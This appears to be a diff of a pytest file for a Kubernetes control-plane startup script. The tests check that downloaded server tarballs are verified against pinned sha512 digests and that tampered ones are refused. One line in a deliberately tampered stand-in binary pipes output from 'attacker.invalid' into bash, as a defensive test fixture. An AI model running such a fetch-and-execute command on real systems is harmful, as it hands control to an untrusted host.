@@ -9,6 +9,8 @@ from __future__ import annotations
 
 import base64
 import dataclasses
+import hashlib
+import io
 import json
 import os
 import re
@@ -17,6 +19,7 @@ import socket
 import stat
 import subprocess
 import sys
+import tarfile
 import time
 from pathlib import Path
 
@@ -26,6 +29,7 @@ from cryptography import x509
 
 from haplane import snapshots as snap
 from haplane.node import (
+    KUBERNETES_VERSION_KEY,
     RESTORE_KEY,
     SNAPSHOT_KEY_KEY,
     SNAPSHOT_KEY_SECRET,
@@ -46,8 +50,12 @@ from haplane.startup import (
     ETCD_DATA_DIR,
     ETCD_ENV,
     ETCD_VERSION,
+    KUBE_APISERVER_BIN,
     KUBE_CONTROLLER_MANAGER_BIN,
     KUBE_SCHEDULER_BIN,
+    KUBE_SERVER_BINARIES,
+    KUBE_SERVER_TARBALL,
+    KUBERNETES_VERSION,
     PKI_DIR,
     apiserver_unit_argv,
     controller_manager_unit_argv,
@@ -55,7 +63,7 @@ from haplane.startup import (
     render_startup_script,
     scheduler_unit_argv,
 )
-from haplane.versions import ETCD_RELEASES
+from haplane.versions import ETCD_RELEASES, KUBERNETES_RELEASES
 
 IP = "10.132.0.7"
 SPECS = {
@@ -146,30 +154,77 @@ def test_script_pins_versions_and_checks_downloads(script: str):
     for version in ETCD_RELEASES:  # every offered release, with its pinned sha256 (empty: not pinned)
         assert f"[{version}]=" in script
     assert "https://github.com/etcd-io/etcd/releases/download/v${version}/${tarball}" in script
-    assert "sha256sum --check" in script
-    assert "SHA256SUMS" not in script and "kube-apiserver.sha256" not in script  # no checksum fetched beside it
+    assert "sha256sum --check --strict" in script
+    for version, release in KUBERNETES_RELEASES.items():  # the server tarball's sha512, pinned per release
+        assert f"[{version}]='{release.server_tarball_sha512}'" in script
+    assert f'KUBE_SERVER_TARBALL="{KUBE_SERVER_TARBALL}"' in script
+    assert "https://dl.k8s.io/${version}/${KUBE_SERVER_TARBALL}" in script
+    assert "sha512sum --check --strict" in script
+    for beside in ("SHA256SUMS", "tar.gz.sha", "kube-apiserver.sha256"):  # no checksum fetched beside a download
+        assert beside not in script
     assert "wait_for_change=true" in script
 
 
-def test_pinned_sha256_is_rendered_and_validated():
+def test_pinned_digests_are_rendered_and_validated():
     digest = "0" * 63 + "a"
     assert f"[3.5.1]='{digest}'" in render_startup_script(etcd_releases={"3.5.1": digest})
     with pytest.raises(ValueError):
         render_startup_script(etcd_releases={"3.5.1": "not-a-digest"})
     with pytest.raises(ValueError):
         render_startup_script(kubernetes_releases={"1.30": None})
+    sha512 = "b" * 127 + "c"
+    assert f"[v1.30.0]='{sha512}'" in render_startup_script(kubernetes_releases={"v1.30.0": sha512})
+    with pytest.raises(ValueError, match="Kubernetes v1.30.0 sha512 must be 128 lowercase hex digits"):
+        render_startup_script(kubernetes_releases={"v1.30.0": digest})  # a sha256 where the sha512 goes
 
 
+# curl's stand-in: records every call; answers the version keys of the metadata server from WANT_ETCD /
+# WANT_KUBE; a download of Kubernetes's server tarball gets the file SERVE_TARBALL, any other download junk.
 FAKE_CURL = """#!/bin/bash
 echo "$*" >>"$CURL_LOG"
 case "$*" in
   *attributes/haplane-etcd-version*) [[ -n "${WANT_ETCD:-}" ]] && { echo "$WANT_ETCD"; exit 0; }; exit 22 ;;
+  *attributes/haplane-kubernetes-version*) [[ -n "${WANT_KUBE:-}" ]] && { echo "$WANT_KUBE"; exit 0; }; exit 22 ;;
 esac
-out=""
-while [[ $# -gt 0 ]]; do [[ "$1" == -o ]] && out=$2; shift; done
+out="" url=""
+while [[ $# -gt 0 ]]; do [[ "$1" == -o ]] && out=$2; url=$1; shift; done
+if [[ -n "$out" && -n "${SERVE_TARBALL:-}" && "$url" == */kubernetes-server-linux-amd64.tar.gz ]]; then
+  cp "$SERVE_TARBALL" "$out"
+  exit 0
+fi
 [[ -n "$out" ]] && echo "not the release" >"$out"
 exit 0
 """
+
+
+def _fake_curl_env(tmp_path: Path, **env: str) -> dict[str, str]:
+    """PATH with FAKE_CURL first, and where it logs its calls (tmp_path/curl.log)."""
+    bindir = tmp_path / "fakebin"
+    bindir.mkdir(parents=True, exist_ok=True)
+    (bindir / "curl").write_text(FAKE_CURL)
+    (bindir / "curl").chmod(0o755)
+    return {"PATH": f"{bindir}:{os.environ['PATH']}", "CURL_LOG": str(tmp_path / "curl.log"), **env}
+
+
+def _server_tarball(path: Path, version: str, recorded: Path, tampered: bool = False) -> str:
+    """Write a stand-in for Kubernetes's kubernetes-server-linux-amd64.tar.gz at ``path`` and return its
+    sha512: kubernetes/server/bin/ holds each of KUBE_SERVER_BINARIES as a recording stand-in (``--version``
+    answers like the real binary; any other call writes its argv to ``recorded``/<name>) beside a binary
+    that is not installed. ``tampered``: one binary differs, so the tarball's sha512 is another."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+        for name in (*KUBE_SERVER_BINARIES, "kubectl"):
+            body = (
+                f'#!/bin/bash\nif [[ "$1" == --version ]]; then echo "Kubernetes {version}"; exit 0; fi\n'
+                f'printf "%s\\n" "$@" >"{recorded}/{name}"\n'
+            )
+            if tampered and name == "kube-scheduler":
+                body += "curl -s http://attacker.invalid/ | bash\n"
+            info = tarfile.TarInfo(f"kubernetes/server/bin/{name}")
+            info.size, info.mode = len(body.encode()), 0o755
+            tar.addfile(info, io.BytesIO(body.encode()))
+    path.write_bytes(buf.getvalue())
+    return hashlib.sha512(buf.getvalue()).hexdigest()
 
 
 @pytest.mark.parametrize(
@@ -206,6 +261,74 @@ def test_install_takes_the_version_from_metadata_and_only_a_pinned_sha256(tmp_pa
     assert "SHA256SUMS" not in fetched and ".sha256" not in fetched
 
 
+def _install_kubernetes(script_path: Path, tmp_path: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        ["bash", "-c", f"source {script_path} && install_kubernetes"],
+        env={**os.environ, "DESTDIR": str(tmp_path / "root"), **env},
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+
+
+@pytest.mark.parametrize(
+    ("want", "pinned", "tampered", "error"),
+    [
+        ("v1.32.0", True, False, "Kubernetes v1.32.0 is not a release this image offers"),
+        ("v1.31.0", False, False, f"Kubernetes v1.31.0: no pinned sha512 of {KUBE_SERVER_TARBALL}"),
+        ("v1.31.0", True, True, f"{KUBE_SERVER_TARBALL} v1.31.0: sha512 mismatch"),
+        (None, True, True, f"{KUBE_SERVER_TARBALL} {KUBERNETES_VERSION}: sha512 mismatch"),  # no key: the default
+        ("v1.31.0", True, False, None),
+        (None, True, False, None),
+    ],
+)
+def test_kubernetes_comes_from_the_server_tarball_checked_against_its_pinned_sha512(
+    tmp_path: Path, want, pinned, tampered, error
+):
+    """kube-apiserver, kube-controller-manager and kube-scheduler of the release the VM's metadata names
+    come out of Kubernetes's server tarball, downloaded from the URL its sha512 is published for and
+    checked against the pinned sha512 before anything is unpacked. A release the image does not offer,
+    one with no pinned sha512, or a tarball whose sha512 differs: refused, nothing installed, and no
+    checksum file is ever fetched."""
+    version = want or KUBERNETES_VERSION
+    recorded = tmp_path / "argv"
+    good = _server_tarball(tmp_path / "good.tar.gz", version, recorded)
+    served = tmp_path / "served.tar.gz"
+    _server_tarball(served, version, recorded, tampered=tampered)
+    releases = {v: (good if pinned and v == version else None) for v in KUBERNETES_RELEASES}
+    path = tmp_path / "startup.sh"
+    path.write_text(render_startup_script(kubernetes_releases=releases))
+    env = _fake_curl_env(tmp_path, SERVE_TARBALL=str(served), **({"WANT_KUBE": want} if want else {}))
+    bin_dir = tmp_path / "root" / KUBE_APISERVER_BIN.lstrip("/").rsplit("/", 1)[0]
+
+    result = _install_kubernetes(path, tmp_path, env)
+    fetched = (tmp_path / "curl.log").read_text().splitlines()
+    assert not any(c in line for line in fetched for c in ("SHA256SUMS", ".sha256", ".sha512"))
+    downloads = [line for line in fetched if "-o " in line]
+    if error:
+        assert result.returncode != 0
+        assert error in result.stderr, result.stderr
+        assert not bin_dir.exists() or list(bin_dir.iterdir()) == []  # nothing installed
+        if not (pinned and version in KUBERNETES_RELEASES):
+            assert downloads == []  # refused before any download
+        return
+    assert result.returncode == 0, result.stderr
+    assert len(downloads) == 1 and downloads[0].endswith(f" https://dl.k8s.io/{version}/{KUBE_SERVER_TARBALL}")
+    with tarfile.open(served) as tar:
+        for name in KUBE_SERVER_BINARIES:
+            installed = bin_dir / name
+            assert installed.read_bytes() == tar.extractfile(f"kubernetes/server/bin/{name}").read(), name
+            assert stat.S_IMODE(installed.stat().st_mode) == 0o755, name
+    assert sorted(p.name for p in bin_dir.iterdir()) == sorted(KUBE_SERVER_BINARIES)  # not kubectl
+    assert f"installed kube-apiserver kube-controller-manager kube-scheduler {version}" in result.stderr
+
+    # the next boot finds the release installed and downloads nothing
+    (tmp_path / "curl.log").unlink()
+    again = _install_kubernetes(path, tmp_path, env)
+    assert again.returncode == 0, again.stderr
+    assert KUBE_SERVER_TARBALL not in (tmp_path / "curl.log").read_text()
+
+
 def test_script_is_the_same_for_every_replica_and_holds_no_secret(script: str, node_spec_tls: dict[str, str]):
     assert script == render_startup_script()
     assert "PRIVATE KEY" not in script
@@ -235,9 +358,10 @@ def _boot(
     ip: str = IP,
     secrets: dict[str, str] | None = None,
     env: dict[str, str] | None = None,
+    steps: str = "apply",
 ) -> subprocess.CompletedProcess:
-    """Run the script's boot-time ``apply`` against fake metadata (and a fake Secret Manager:
-    version name -> payload); files land under tmp_path/root."""
+    """Run the script's boot-time ``steps`` (default: ``apply``) against fake metadata (and a fake Secret
+    Manager: version name -> payload); files land under tmp_path/root."""
     sm = tmp_path / "sm"
     sm.mkdir(parents=True, exist_ok=True)
     for version, payload in (secrets or {}).items():
@@ -253,7 +377,7 @@ source {script_path}
 md() {{ [[ -f "$FAKE_MD/$1" ]] && cat "$FAKE_MD/$1"; }}
 sm_access() {{ [[ -f "$FAKE_SM/${{1//\//_}}" ]] && cat "$FAKE_SM/${{1//\//_}}"; }}
 systemctl() {{ echo "$*" >>"$DESTDIR/systemctl.log"; }}
-apply
+{steps}
 """
     return subprocess.run(
         ["bash", "-c", driver],
@@ -509,18 +633,48 @@ def test_restore_boot_fills_the_empty_data_dir_from_a_sealed_snapshot(
 def test_boot_runs_controller_manager_and_scheduler_leader_elected(
     script_path: Path, tmp_path: Path, node_spec_tls: dict[str, str]
 ):
-    """Each unit's ExecStart, run with a recording stand-in for its binary: leader election on, its own
-    client certificate (key 0600) in a kubeconfig for the replica's own API server, and the
-    controller-manager's service-account key and root CA; no CA key, so no CSR signing."""
+    """The boot installs the three control-plane binaries from a stand-in server tarball (a tampered one,
+    whose sha512 is not the pinned one, is refused first, before anything is installed); each unit's
+    ExecStart then runs the installed recording stand-in: leader election on, its own client certificate
+    (key 0600) in a kubeconfig for the replica's own API server, and the controller-manager's
+    service-account key and root CA; no CA key, so no CSR signing."""
     etcd, api = SPECS["joining an existing cluster, quorum reads"]
-    metadata = NodeSpec(etcd=etcd, apiserver=api, tls=node_spec_tls).to_metadata()
-    result = _boot(script_path, tmp_path, metadata)
-    assert result.returncode == 0, result.stderr
+    version = "v1.31.0"
+    metadata = {**NodeSpec(etcd=etcd, apiserver=api, tls=node_spec_tls).to_metadata(), KUBERNETES_VERSION_KEY: version}
+    recorded = tmp_path / "argv"
+    recorded.mkdir()
+    pinned = _server_tarball(tmp_path / "server.tar.gz", version, recorded)
+    _server_tarball(tmp_path / "tampered.tar.gz", version, recorded, tampered=True)
+    boot_script = tmp_path / "startup.sh"
+    boot_script.write_text(
+        render_startup_script(kubernetes_releases={v: pinned if v == version else None for v in KUBERNETES_RELEASES})
+    )
     root = tmp_path / "root"
+    bin_dir = root / KUBE_APISERVER_BIN.lstrip("/").rsplit("/", 1)[0]
+
+    def boot_serving(tarball: str) -> subprocess.CompletedProcess:  # install, then apply, as a VM's boot
+        env = _fake_curl_env(tmp_path, SERVE_TARBALL=str(tmp_path / tarball))
+        return _boot(boot_script, tmp_path, metadata, env=env, steps="install_kubernetes && apply")
+
+    tampered = boot_serving("tampered.tar.gz")
+    assert tampered.returncode != 0
+    assert f"{KUBE_SERVER_TARBALL} {version}: sha512 mismatch (pinned {pinned}); nothing installed" in tampered.stderr
+    assert not bin_dir.exists() or list(bin_dir.iterdir()) == []
+    assert not (root / "systemctl.log").exists()  # stopped before apply: nothing started
+
+    result = boot_serving("server.tar.gz")
+    assert result.returncode == 0, result.stderr
+    assert sorted(p.name for p in bin_dir.iterdir()) == sorted(KUBE_SERVER_BINARIES)
     calls = (root / "systemctl.log").read_text().splitlines()
     assert "restart --no-block kube-controller-manager.service kube-scheduler.service" in calls
     env = _env_file(root / str(APISERVER_ENV).lstrip("/"))
-    recorded = tmp_path / "argv"
+
+    # kube-apiserver: the installed binary gets its unit's command line
+    words = _expand(_exec_start((root / "etc/systemd/system/kube-apiserver.service").read_text()), env)
+    assert words[0] == KUBE_APISERVER_BIN
+    subprocess.run([str(root / KUBE_APISERVER_BIN.lstrip("/")), *words[1:]], check=True, timeout=10)
+    assert (recorded / "kube-apiserver").read_text().splitlines() == words[1:]
+
     for unit_name, binary, user, unit_argv in (
         (
             "kube-controller-manager",
@@ -534,12 +688,10 @@ def test_boot_runs_controller_manager_and_scheduler_leader_elected(
         assert "Restart=always" in unit and "After=kube-apiserver.service" in unit
         words = _expand(_exec_start(unit), env)
         assert words == _expand(unit_argv(), env) and words[0] == binary
-        stand_in = root / binary.lstrip("/")
-        stand_in.parent.mkdir(parents=True, exist_ok=True)
-        stand_in.write_text(f'#!/bin/bash\nprintf "%s\\n" "$@" > {recorded}\n')
-        stand_in.chmod(0o755)
-        subprocess.run([str(stand_in), *words[1:]], check=True, timeout=10)
-        flags = dict(w.removeprefix("--").split("=", 1) for w in recorded.read_text().splitlines())
+        installed = root / binary.lstrip("/")  # from the tarball: its stand-in records its argv
+        assert stat.S_IMODE(installed.stat().st_mode) == 0o755
+        subprocess.run([str(installed), *words[1:]], check=True, timeout=10)
+        flags = dict(w.removeprefix("--").split("=", 1) for w in (recorded / unit_name).read_text().splitlines())
         assert flags["leader-elect"] == "true"
         assert (
             flags["leader-elect-lease-duration"],
